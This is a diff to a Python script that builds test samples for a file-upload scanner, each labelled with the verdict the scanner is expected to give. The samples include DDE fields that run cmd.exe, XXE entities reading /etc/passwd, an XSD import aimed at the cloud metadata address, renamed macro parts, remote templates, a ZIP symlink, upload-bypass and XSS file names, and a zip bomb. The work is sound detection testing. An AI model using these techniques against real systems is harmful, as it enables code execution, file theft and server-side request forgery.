@@ -136,6 +136,101 @@ sample("un-deep.zip", zipped({"1.zip": zipped({"2.zip": zipped({"3.zip": zipped(
        why="nested deeper than maxDepth 3")
 sample("un-bzip2.zip", zipped({"a.txt": text * 10}, zipfile.ZIP_BZIP2), "unscannable", name="packed.zip", why="a compression method not unpacked")
 
+
+# --- Classes of issue 15, each in variants of our own (never copies of public samples). ---
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PR = "http://schemas.openxmlformats.org/package/2006/relationships"
+CT = "http://schemas.openxmlformats.org/package/2006/content-types"
+DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+def package(parts, content_types='<Types xmlns="%s"/>' % CT, rels='<Relationships xmlns="%s"/>' % PR):
+    return zipped({"[Content_Types].xml": content_types, "_rels/.rels": rels, **parts})
+
+
+def docx(body, extra=None, **kwargs):
+    return package({"word/document.xml": '<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (W, body), **(extra or {})}, **kwargs)
+
+
+def xlsx(extra, **kwargs):
+    return package({"xl/workbook.xml": "<workbook/>", **extra}, **kwargs)
+
+
+def run(text):
+    return "<w:r><w:instrText xml:space=\"preserve\">%s</w:instrText></w:r>" % text
+
+
+# DDE fields: whole, split across runs, lower case, in a simple field, in a header part.
+sample("dde-field.docx", docx("<w:p>" + run(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ') + "</w:p>"), "active_content", name="memo.docx")
+sample("dde-split.docx", docx("<w:p>" + run(" DD") + run("EAUTO ") + run("c:\\\\x.exe") + "</w:p>"), "active_content", name="memo.docx",
+       why="one field's code split over three runs")
+sample("dde-simple.docx", docx('<w:p><w:fldSimple w:instr=" dde cmd &quot;/c calc&quot; "/></w:p>'), "active_content", name="memo.docx")
+sample("dde-header.docx", docx("<w:p/>", {"word/header1.xml": '<w:hdr xmlns:w="%s"><w:p>%s</w:p></w:hdr>' % (W, run("DDE cmd x"))}),
+       "active_content", name="memo.docx")
+# SpreadsheetML: a DDE link part and a DDE formula.
+sample("dde-link.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
+       "active_content", name="sheet.xlsx")
+sample("dde-formula.xlsx", xlsx({"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row><c><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>"}),
+       "active_content", name="sheet.xlsx")
+# XXE: a DOCTYPE in any part, an external schema.
+sample("xxe-core.docx", docx("<w:p/>", {"docProps/core.xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
+       "active_content", name="memo.docx")
+sample("xxe-sheet.xlsx", xlsx({"xl/worksheets/sheet1.xml": '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><worksheet>&b;</worksheet>'}),
+       "active_content", name="sheet.xlsx", why="an entity expansion bomb")
+sample("xsd-import.xlsx", xlsx({"xl/xmlMaps.xml": '<MapInfo><Schema><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
+                                '<xs:import schemaLocation="http://169.254.169.254/latest"/></xs:schema></Schema></MapInfo>'}),
+       "active_content", name="sheet.xlsx")
+# Macros found by content type and relationship, under a harmless part name.
+sample("macro-renamed.docx", docx("<w:p/>", {"word/settings.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 200,
+                                             "word/_rels/document.xml.rels": '<Relationships xmlns="%s"><Relationship Id="r9" '
+                                             'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="settings.bin"/></Relationships>' % PR}),
+       "active_content", name="memo.docx", why="a VBA project part named settings.bin, found by its relationship")
+sample("macro-content-type.docx", docx("<w:p/>", content_types='<Types xmlns="%s"><Override PartName="/word/document.xml" '
+                                       'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' % CT),
+       "active_content", name="memo.docx", why="a macro-enabled main part declared in [Content_Types].xml")
+# Remote templates and objects fetched on open.
+sample("remote-template.docx", docx("<w:p/>", {"word/_rels/settings.xml.rels": '<Relationships xmlns="%s"><Relationship Id="r1" '
+                                                'Type="%s/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>' % (PR, R)}),
+       "active_content", name="memo.docx")
+sample("remote-image.docx", docx("<w:p/>", {"word/_rels/document.xml.rels": '<Relationships xmlns="%s"><Relationship Id="r2" '
+                                             'Type="%s/image" Target="\\\\198.51.100.7\\share\\a.png" TargetMode="External"/></Relationships>' % (PR, R)}),
+       "active_content", name="memo.docx", why="a UNC image fetched on open")
+# An embedded workbook is walked as a document: a macro inside it is found.
+sample("embedded-macro.docx", docx("<w:p/>", {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 64})}),
+       "active_content", name="memo.docx")
+# ZIP: duplicate names (also differing in case), a symbolic link, local and central names that disagree.
+dup = io.BytesIO()
+with zipfile.ZipFile(dup, "w") as z:
+    z.writestr("report.txt", text)
+    import warnings
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        z.writestr("report.txt", "other content\n")
+sample("un-duplicate.zip", dup.getvalue(), "unscannable", name="dup.zip")
+sample("un-duplicate-case.zip", zipped({"Report.txt": text, "report.TXT": "other\n"}), "unscannable", name="dup.zip")
+link = io.BytesIO()
+with zipfile.ZipFile(link, "w") as z:
+    info = zipfile.ZipInfo("notes.txt")
+    info.create_system = 3
+    info.external_attr = (0o120777 << 16)
+    z.writestr(info, "/etc/passwd")
+sample("ac-symlink.zip", link.getvalue(), "active_content", name="notes.zip")
+mismatch = bytearray(zipped({"readme.txt": text}, zipfile.ZIP_STORED))
+mismatch[30:40] = b"shell.php!"
+sample("un-local-name.zip", bytes(mismatch), "unscannable", name="mismatch.zip", why="the local header names shell.php!")
+# Names that servers or Windows read differently.
+sample("fn-double.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", "filename_invalid", name="shell.php.gif")
+sample("fn-semicolon.png", png_bytes(), "filename_invalid", name="shell.asp;.png")
+sample("fn-stream.png", png_bytes(), "filename_invalid", name="file.asax:.png")
+sample("fn-markup.png", png_bytes(), "filename_invalid", name='"><img src=x onerror=alert(1)>.png')
+# Budget: a recursive bomb (every level holds several copies of the level below).
+level = zipped({"core.txt": text * 50})
+for depth in range(8):
+    level = zipped({"%d-%d.zip" % (depth, copy): level for copy in range(6)})
+sample("un-recursive-bomb.zip", level, "unscannable", name="bomb.zip", why="8 levels of 6 copies: depth and member budget")
+
 with open(os.path.join(out, "manifest.json"), "w") as f:
     json.dump(manifest, f, indent=1, ensure_ascii=False)
 print(len(manifest))
